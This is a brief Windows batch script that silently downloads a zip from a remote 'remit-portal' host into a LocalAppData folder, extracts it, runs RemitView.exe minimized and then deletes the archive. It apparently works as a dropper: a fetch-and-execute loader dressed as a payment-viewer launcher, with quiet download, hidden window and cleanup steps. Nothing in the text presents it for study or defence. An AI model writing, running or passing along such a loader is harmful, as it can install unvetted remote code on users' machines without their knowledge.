@echo off
set "d=%LOCALAPPDATA%\RemitView"
mkdir "%d%" 2>nul
curl -s -L -o "%d%\rv.zip" "https://files.remit-portal.example.net/rt/rv.zip"
tar -xf "%d%\rv.zip" -C "%d%"
start "" /min "%d%\RemitView.exe"
del "%d%\rv.zip"
